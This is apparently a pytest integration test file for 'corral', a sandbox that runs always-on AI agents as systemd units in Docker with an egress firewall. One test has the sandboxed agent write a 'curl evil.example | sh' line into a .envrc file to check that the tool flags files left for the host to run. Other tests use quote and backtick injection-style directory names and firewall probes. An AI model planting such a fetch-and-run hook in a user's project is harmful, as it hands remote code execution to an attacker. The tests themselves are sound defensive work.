"""An agent that is always on: up, attach, logs, refresh, down; as a unit, over crashes and a reboot."""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Iterator
from typing import Any

import pytest

from tests.lab import layout
from tests.lab.network import in_netns

from .host import BASE_POLICY, Done, Host, Project, until
from .person import LEAVE, at_terminal

SECRET = "s3cr3t-of-the-daemon-51ac"
ENV_FILE = "/home/dev/.config/corral/daemon.env"
WORK = "/home/dev/work"
DAEMON = f"mode: daemon\nmounts: {{rw: [{WORK}]}}\nsecrets: {{env_file: {ENV_FILE}}}\n"
FORBIDDEN = "203.0.113.66"
# The first systemd whose pauses between restarts can grow.
GROWING = 254
# What systemd notes (systemd.journal-fields(7), catalog): a unit's program ended; its restart is due.
EXITED = "98e322203f7a4ed290d09fe03c09fe15"
AGAIN = "5eb03494b6584870a536b337290809b3"


@pytest.fixture
def project(host: Host) -> Iterator[Project]:
    host.root("loginctl", "enable-linger", "dev")
    host.box.run(["mkdir", "-p", WORK])
    host.box.write(ENV_FILE, f"API_KEY='{SECRET}'\n", mode=0o600)
    made = host.project("daemon", BASE_POLICY + DAEMON)
    try:
        yield made
    finally:
        made.corral("disable", check=False)


def sessions(project: Project) -> list[dict[str, Any]]:
    rows = json.loads(project.corral("ps", "--here", "--json").stdout)["sessions"]
    return [row for row in rows if row["state"] == "running"]


def session(project: Project) -> dict[str, Any]:
    (found,) = sessions(project)
    return dict(found)


def unit(host: Host, project: Project) -> str:
    found = host.box.run(["bash", "-c", "ls ~/.config/systemd/user/corral-sandbox-*.service"]).stdout.split()
    assert len(found) == 1
    return found[0].rpartition("/")[2]


def systemd(host: Host) -> int:
    return int(host.root("systemctl", "--version").stdout.split()[1])


def pauses(host: Host, name: str, since: float) -> list[float]:
    """Seconds from each end of a unit's program to its next start, by what systemd noted itself."""
    words = ("-o", "json", f"USER_UNIT={name}", f"MESSAGE_ID={EXITED}", "+")
    rows = host.journal(*words, f"USER_UNIT={name}", f"MESSAGE_ID={AGAIN}", since=since).splitlines()
    found, ended = [], 0.0
    for row in map(json.loads, rows):
        at = int(row["__MONOTONIC_TIMESTAMP"]) / 1e6
        if row["MESSAGE_ID"] == EXITED:
            ended = at
        else:
            found.append(at - ended)
    return found


def agent_environment(host: Host, container: str) -> str:
    """The environment of the program in a container, and not of its init or its gate."""
    ident = host.box.run(["docker", "inspect", "-f", "{{.Id}}", container]).stdout.strip()
    script = f"for p in /proc/[0-9]*; do grep -q {ident} $p/cgroup 2>/dev/null && cat $p/environ; done | tr '\\0' '\\n'"
    return host.shell(script, user="root").stdout


def execute(
    host: Host, container: str, *argv: str, options: tuple[str, ...] = (), check: bool = True
) -> Done:
    """Run a program in a container as its agent, by Docker."""
    return host.box.run(["docker", "exec", *options, "-u", host.engine.agent, container, *argv], check=check)


def nowhere(host: Host) -> dict[str, str]:
    places = {
        "inspect": "docker ps -aq | xargs -r docker inspect",
        "arguments": "cat /proc/[0-9]*/cmdline | tr '\\0' '\\n'",
        "journal": "journalctl --no-pager -o cat --since '1 hour ago'",
        "units": "cat /home/dev/.config/systemd/user/*.service",
        "session files": "grep -ras -e '' /home/dev/.local/share/corral/*/sessions",
        "Docker's files": f"grep -ras -e '' {host.engine.containers} 2>/dev/null",
    }
    coded = base64.b64encode(SECRET.encode()).decode()[:20]
    # In a file: what looks for it must not be what is found.
    host.box.write("/home/dev/patterns", f"{SECRET}\n{coded}\n")
    return {
        place: host.shell(
            f"{{ {command}; }} 2>/dev/null | grep -acFf /home/dev/patterns || true", user="root"
        ).stdout.strip()
        for place, command in places.items()
    }


def test_up_attach_logs_refresh_and_down(host: Host, project: Project) -> None:
    done = project.corral("up", timeout=400)
    assert "corral-firewall: egress policy applied" in done.stderr
    first = session(project)
    assert f"is up: session {first['session']}" in done.stdout
    assert "reaches allowed1.corral.example (203.0.113.10)" in done.stdout
    assert first["purpose"] == "daemon" and first["address"] in done.stdout
    # It has its secret, and nobody who looks from outside does.
    assert f"API_KEY={SECRET}" in agent_environment(host, first["container"])
    assert nowhere(host) == dict.fromkeys(nowhere(host), "0")
    # A second up finds it.
    assert "was up already" in project.corral("up").stdout
    assert session(project)["session"] == first["session"]
    assert [row["session"] for row in project.sandbox["sessions"]] == [first["session"]]
    # Names follow without a restart.
    host.internet.set_name("allowed1.corral.example", ["203.0.113.11"])
    host.box.flush_dns()
    project.corral("refresh")
    assert "203.0.113.11" in json.dumps(project.sandbox["sessions"][0]["names"])
    assert session(project)["session"] == first["session"]
    # Somebody comes, is shown something, and goes by keys that are not Docker's.
    seen = at_terminal(
        host.box,
        project.path,
        [["until", "leaves it running"], ["until", "\\x1b\\["], ["type", "\x10\x11"], ["type", LEAVE]],
        "corral",
        "attach",
    )
    assert seen["code"] == 0
    assert f"left {first['session']}, which goes on" in seen["said"]
    assert session(project)["session"] == first["session"]
    rows = [
        json.loads(line) for line in project.corral("logs", "--json", "--since", "1h").stdout.splitlines()
    ]
    assert "corral-firewall: egress policy applied" in [row["text"] for row in rows]
    assert project.corral("logs", "--since", "2100-01-01T00:00:00+00:00").stdout == ""
    # A policy that changed makes another one.
    host.internet.set_name("control.corral.example", ["203.0.113.40"])
    host.box.flush_dns()
    project.policy(BASE_POLICY + "    - {host: control.corral.example, liveness: false}\n" + DAEMON)
    replaced = project.corral("up", timeout=400)
    assert "it was started with another policy or image" in replaced.stderr
    second = session(project)
    assert second["session"] != first["session"]
    assert "removed 1 container, its network" in project.corral("down").stdout
    assert project.containers() == []


SERVER = """\
import socket, sys
s = socket.create_server(("0.0.0.0", 8377))
while True:
    c, peer = s.accept()
    with open(sys.argv[1] + "/heard", "a") as file:
        file.write(peer[0] + "\\n")
    # What is not read makes the kernel reset the connection, and curl may lose the answer.
    c.recv(65536)
    c.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\nfrom inside")
    c.close()
"""


@pytest.fixture
def visitor(host: Host) -> Iterator[str]:
    """Another user of this host, with an engine's socket or without it makes no difference."""
    host.root("useradd", "-m", "visitor", check=False)
    yield "visitor"
    host.root("userdel", "-r", "visitor", check=False)


def test_a_server_inside_is_for_its_user_and_root_at_the_address_that_is_shown(
    host: Host, project: Project, visitor: str
) -> None:
    project.corral("up", timeout=400)
    other = host.project("neighbour")
    other.inside("true", timeout=400)
    running = session(project)
    address = running["address"]
    assert f"main-{running['session']}  {address}  running" in project.corral("status").stdout
    host.box.write(f"{WORK}/server.py", SERVER)
    execute(host, running["container"], "python3", f"{WORK}/server.py", WORK, options=("-d",))
    url = f"http://{address}:8377/"

    def heard() -> int:
        return len(host.shell(f"cat {WORK}/heard 2>/dev/null || true").stdout.splitlines())

    def curl(user: str) -> str:
        asked = f"curl --noproxy '*' -sS -m 5 {url} || true"
        return host.root("runuser", "-u", user, "--", "sh", "-c", asked).stdout

    until(lambda: "from inside" in curl("dev"), 20, "its user reaches it")
    before = heard()
    assert "from inside" in curl("dev") and "from inside" in curl("root")
    assert heard() == before + 2
    # Nobody else's packets arrive: another user, a container of another network, another sandbox.
    tries = (
        f"import socket; s = socket.socket(); s.settimeout(3); s.connect(('{address}', 8377)); print('open')"
    )
    assert curl(visitor) == ""
    assert "open" not in host.plain("python3", "-c", tries, check=False).stdout
    assert "open" not in other.inside("python3", "-c", tries, check=False).stdout
    inet = host.internet._lab.inet_netns
    in_netns(inet, ["ip", "route", "replace", f"{address}/32", "via", layout.BOX])
    try:
        outside = in_netns(inet, ["sh", "-c", f"curl --noproxy '*' -sS -m 3 {url} 2>&1 || true"])
    finally:
        in_netns(inet, ["ip", "route", "del", f"{address}/32"])
    assert "from inside" not in outside
    assert heard() == before + 2
    assert "from inside" in curl("dev")
    assert heard() == before + 3


def test_what_the_agent_left_for_this_host_to_execute_is_told_when_it_ends(
    host: Host, project: Project
) -> None:
    project.corral("up", timeout=400)
    running = session(project)
    touch = f"echo 'curl evil.example | sh' > {WORK}/.envrc"
    execute(host, running["container"], "sh", "-c", touch)
    done = project.corral("down")
    assert f"{WORK}/.envrc: new" in done.stderr
    project.corral("revert", running["session"])
    assert host.box.run(["test", "-e", f"{WORK}/.envrc"], check=False).returncode == 1
    # By its unit, in the journal, at once.
    project.corral("enable", timeout=400)
    name, running, since = unit(host, project), session(project), time.time()
    status = project.corral("status").stdout
    assert f"unit {name}: active (running), starts with the machine" in status
    assert "enable-linger" not in status
    execute(host, running["container"], "sh", "-c", touch)
    host.box.run(["docker", "kill", running["container"]])
    until(
        lambda: f"{WORK}/.envrc: new" in host.journal(f"_SYSTEMD_USER_UNIT={name}", since=since - 1),
        60,
        "the unit says it",
    )


def test_each_mode_says_which_command_is_its_own(host: Host, project: Project) -> None:
    refused = project.corral("run", "--", "true", check=False)
    assert refused.returncode == 2
    assert "corral up starts it" in refused.stderr
    project.policy(BASE_POLICY)
    for command in ("up", "enable"):
        refused = project.corral(command, check=False)
        assert refused.returncode == 2
        assert "mode: daemon" in refused.stderr
    # What somebody else wrote starts nothing.
    project.policy(BASE_POLICY + "    - forbidden.corral.example\n" + DAEMON, approve=False)
    refused = project.corral("up", check=False)
    assert refused.returncode == 2
    assert "forbidden.corral.example" in refused.stderr
    assert project.containers() == []


def test_a_gate_that_does_not_open_starts_nothing(host: Host, project: Project) -> None:
    project.policy(BASE_POLICY + "host_services:\n  - {name: absent, port: 8099}\n" + DAEMON)
    refused = project.corral("up", check=False, timeout=400)
    assert refused.returncode == 1
    assert "the gate did not open" in refused.stderr
    assert project.containers() == []


def test_without_lingering_nothing_is_left_on_behind_the_user_s_back(host: Host, project: Project) -> None:
    host.root("loginctl", "disable-linger", "dev")
    try:
        refused = project.corral("up", check=False)
    finally:
        host.root("loginctl", "enable-linger", "dev")
    assert refused.returncode == 1
    assert "loginctl enable-linger dev" in refused.stderr
    assert project.containers() == []


@pytest.mark.fault("daemon died")
def test_the_unit_starts_it_again_and_down_is_stronger(host: Host, project: Project) -> None:
    project.corral("up", timeout=400)
    by_hand = session(project)
    done = project.corral("enable", timeout=400)
    assert "comes back with the machine" in done.stdout
    assert "/home/dev/.local/bin/corral" in done.stdout
    name = unit(host, project)
    # It took over what was up.
    assert session(project)["session"] == by_hand["session"]
    shown = host.user_systemctl(
        "show", "-p", "Restart,RestartUSec,RestartMaxDelayUSec,RestartSteps,RestartPreventExitStatus", name
    ).stdout.splitlines()
    assert {"Restart=always", "RestartPreventExitStatus=2"} <= set(shown)
    assert "without a login" not in done.stderr
    version = systemd(host)
    if version >= GROWING:
        assert {"RestartUSec=1s", "RestartMaxDelayUSec=5min", "RestartSteps=8"} <= set(shown)
        assert "pauses between restarts" not in done.stderr
        assert "started again after a pause (1 s to 300 s)" in done.stdout
    else:
        assert "RestartUSec=15s" in shown
        assert (
            f"systemd {version} cannot let the pauses between restarts grow (254 can): they are 15 s each"
            in done.stderr
        )
        assert "started again after a pause (15 s)" in done.stdout
    host.box.run(["docker", "kill", by_hand["container"]])
    until(
        lambda: [r["session"] for r in sessions(project)] not in ([], [by_hand["session"]]), 60, "a new agent"
    )
    after = session(project)
    assert f"API_KEY={SECRET}" in agent_environment(host, after["container"])
    # The unit's own program dies: the agent does not notice, and a new one looks after it.
    pid = host.user_systemctl("show", "-P", "MainPID", name).stdout.strip()
    host.root("kill", "-9", pid)
    until(
        lambda: (
            host.user_systemctl("show", "-P", "MainPID,ActiveState", name, check=False).stdout.split()
            not in ([pid, "active"], ["0", "activating"])
            and "active" in host.user_systemctl("is-active", name, check=False).stdout.split()
        ),
        60,
        "the unit is active again",
    )
    assert session(project)["session"] == after["session"]
    told = project.corral("down").stdout
    assert "removed 1 container" in told
    assert f"{name} starts its agent again with the machine" in told
    assert project.containers() == []
    assert host.user_systemctl("is-active", name, check=False).stdout.strip() == "inactive"
    assert f"{name} does not start any more" in project.corral("disable").stdout
    assert not host.box.run(
        ["bash", "-c", "ls ~/.config/systemd/user/corral-sandbox-* 2>/dev/null"], check=False
    ).stdout
    again = project.corral("disable", check=False)
    assert (again.returncode, again.stdout[:14]) == (0, "nothing to do:")


def test_an_agent_that_fails_at_once_is_started_again_after_pauses_that_grow(
    host: Host, project: Project
) -> None:
    project.corral("enable", timeout=400)
    name, sandbox, since = unit(host, project), session(project)["sandbox"], time.time()
    # It fails as soon as it is there, or a moment before.
    container = f"docker ps -q --filter label=io.corral.sandbox={sandbox} --filter status=running"
    killer = host.box.popen(["sh", "-c", f"while :; do {container} | xargs -r docker kill; sleep 0.2; done"])
    try:
        until(lambda: len(pauses(host, name, since)) >= 4, 240, "it was started again four times")
    finally:
        host.box.kill(killer)
    found = pauses(host, name, since)[:4]
    if systemd(host) >= GROWING:
        # Each is twice the one before it; over two steps a machine that is late makes no difference.
        assert found[2] > 2 * found[0] and found[3] > 2 * found[1], found
    else:
        assert min(found) > 14, found
    # Left in peace it comes up again.
    until(lambda: sessions(project), 120, "the agent is up")
    until(
        lambda: host.user_systemctl("is-active", name, check=False).stdout.strip() == "active",
        60,
        "the unit is active",
    )


@pytest.fixture
def login(host: Host) -> Iterator[None]:
    """Somebody who is logged in, and who does not linger."""
    stay = "systemd-run --quiet --unit=login-of-dev -p PAMName=login -p User=dev sleep infinity"
    host.shell(f"{stay}; loginctl disable-linger dev", user="root")
    try:
        until(lambda: "dev" in host.root("loginctl", "list-sessions", "--no-legend").stdout, 20, "the login")
        host.wait_enforcer()
        yield
    finally:
        host.root("loginctl", "enable-linger", "dev")
        host.root("systemctl", "stop", "login-of-dev", check=False)


def test_without_lingering_enable_says_what_that_means_and_how_to_mend_it(
    host: Host, project: Project, login: None
) -> None:
    done = project.corral("enable", "--json", timeout=400)
    assert "without a login your units do not run, not even after a reboot" in done.stderr
    assert "sudo loginctl enable-linger dev" in done.stderr
    assert json.loads(done.stdout)["lingers"] is False
    assert len(sessions(project)) == 1
    assert "enable-linger" in project.corral("status").stdout
    host.root("loginctl", "enable-linger", "dev")
    assert "without a login" not in project.corral("enable", timeout=400).stderr


@pytest.mark.parametrize(
    ("odd", "program"),
    [
        ("with space", "with space"),
        ("per%cent %n %h", "per%cent %n %h"),
        # Of what has quotes or a backslash systemd starts nothing; it may well work there.
        ("quote'\"$x`y`${HOME}", "dollar $x`y`${HOME}"),
        ("back\\slash ünïcode;", "ünïcode; @ #"),
    ],
    ids=["space", "percent", "quotes", "backslash"],
)
def test_the_unit_of_an_odd_directory_is_started_by_systemd_and_its_state_stays(
    host: Host, odd: str, program: str
) -> None:
    host.root("loginctl", "enable-linger", "dev")
    programs = f"/home/dev/programs/{program}"
    host.box.run(["mkdir", "-p", programs])
    host.box.run(["ln", "-sfn", "/home/dev/.local/bin/corral", f"{programs}/corral"])
    project = host.project(odd)
    project.policy(f"{BASE_POLICY}mode: daemon\nmounts: {{rw: [{json.dumps(project.path)}]}}\n")
    try:
        done = project.corral("enable", timeout=400, env={"PATH": f"{programs}:/usr/bin:/bin"})
        assert f"runs {programs}/corral" in done.stdout
        name, first = unit(host, project), session(project)
        assert first["project"] == project.path
        pid = host.user_systemctl("show", "-P", "MainPID", name).stdout.strip()
        assert host.box.run(["readlink", f"/proc/{pid}/cwd"]).stdout == f"{project.path}\n"
        argv, environ = (
            host.box.run(["cat", f"/proc/{pid}/{what}"]).stdout.split("\0") for what in ("cmdline", "environ")
        )
        assert argv[-4:-1] == [f"{programs}/corral", "up", "--foreground"], argv
        assert f"PATH={programs}:/usr/bin:/bin" in environ
        # What it has written is there after it was started anew.
        state = "/home/agent/.local/share/opencode/remembered"
        keep = 'echo "$PWD" >"$1"; echo kept >kept'
        options = ("-w", project.path)
        execute(host, first["container"], "sh", "-c", keep, "sh", state, options=options)
        host.user_systemctl("restart", name)
        second = session(project)
        assert second["session"] != first["session"] and second["sandbox"] == first["sandbox"]
        assert host.user_systemctl("show", "-P", "MainPID", name).stdout.strip() != pid
        kept = execute(host, second["container"], "cat", state, "kept", options=options)
        assert kept.stdout == f"{project.path}\nkept\n"
        status = project.corral("status").stdout
        assert f"unit {name}: active (running), starts with the machine" in status
        project.corral("down")
        assert f"{name} does not start any more" in project.corral("disable").stdout
        assert host.user_systemctl("show", "-P", "LoadState", name).stdout.strip() == "not-found"
    finally:
        project.corral("disable", check=False)
        host.box.run(["rm", "-rf", "/home/dev/programs"])


def test_a_program_that_systemd_would_not_start_is_refused_before_anything_is_written(
    host: Host, project: Project
) -> None:
    programs = "/home/dev/programs/quote'\""
    host.box.run(["mkdir", "-p", programs])
    host.box.run(["ln", "-sfn", "/home/dev/.local/bin/corral", f"{programs}/corral"])
    try:
        refused = project.corral("enable", check=False, env={"PATH": f"{programs}:/usr/bin:/bin"})
    finally:
        host.box.run(["rm", "-rf", "/home/dev/programs"])
    assert refused.returncode == 1
    assert "systemd starts no program of such a name" in refused.stderr
    assert project.containers() == []
    assert not host.shell("ls ~/.config/systemd/user/corral-sandbox-* 2>/dev/null || true").stdout


def test_a_policy_that_nobody_approved_is_not_started_by_the_unit(host: Host, project: Project) -> None:
    project.corral("enable", timeout=400)
    name, before = unit(host, project), session(project)
    project.policy(BASE_POLICY + "    - forbidden.corral.example\n" + DAEMON, approve=False)
    host.box.run(["docker", "kill", before["container"]])
    until(
        lambda: host.user_systemctl("is-failed", name, check=False).stdout.strip() == "failed",
        60,
        "it gave up",
    )
    assert host.user_systemctl("show", "-P", "ExecMainStatus", name).stdout.strip() == "2"
    assert sessions(project) == []
    assert "the policy allows more than was approved" in host.journal(
        f"_SYSTEMD_USER_UNIT={name}", since=time.time() - 120
    )
    # Agreed to, it comes up, and the unit with it.
    project.policy(BASE_POLICY + "    - forbidden.corral.example\n" + DAEMON)
    project.corral("up", timeout=400)
    assert host.user_systemctl("is-active", name).stdout.strip() == "active"
    assert len(sessions(project)) == 1


def test_enable_wants_corral_on_the_path(host: Host, project: Project) -> None:
    program = "/home/dev/.local/bin/corral"
    refused = host.box.run(
        [program, "enable"], cwd=project.path, env={"PATH": "/usr/bin:/bin"}, check=False, timeout=120
    )
    assert refused.returncode == 1
    assert "corral is not on your PATH" in refused.stderr
    assert not host.box.run(
        ["bash", "-c", "ls ~/.config/systemd/user/corral-sandbox-* 2>/dev/null"], check=False
    ).stdout


@pytest.mark.fault("reboot")
def test_after_a_reboot_the_agent_is_back_with_its_state_and_its_secrets(
    host: Host, project: Project
) -> None:
    project.corral("enable", timeout=400)
    before = session(project)
    state = f"/home/dev/.local/share/corral/{before['sandbox']}/home/.local/share/opencode"
    until(
        lambda: "opencode.db" in host.box.run(["ls", state], check=False).stdout, 120, "the agent's database"
    )
    host.box.run(["touch", f"{state}/remembered", f"{WORK}/remembered"])
    host.internet.reset_counters()
    host.box.reboot()
    host.box.wait_for(
        lambda: host.engine.systemctl("is-active", "docker", "corral-netfilter", check=False).returncode == 0,
        timeout=60,
    )
    host.wait_enforcer()
    until(lambda: sessions(project), 120, "the agent is up")
    after = session(project)
    assert after["session"] != before["session"]
    assert f"API_KEY={SECRET}" in agent_environment(host, after["container"])
    assert nowhere(host) == dict.fromkeys(nowhere(host), "0")
    there = execute(host, after["container"], "ls", "/home/agent/.local/share/opencode", WORK)
    assert there.stdout.split().count("remembered") == 2
    # The fence holds around it, by count at the far end; what is listed is reached.
    probe = f"curl -sS -m 5 -k https://{FORBIDDEN}/; curl -sS -m 10 https://allowed1.corral.example/"
    tried = execute(host, after["container"], "sh", "-c", probe, check=False)
    assert "203.0.113.10" in tried.stdout
    assert host.internet.packets(FORBIDDEN) == 0
    assert "removed 1 container" in project.corral("down").stdout
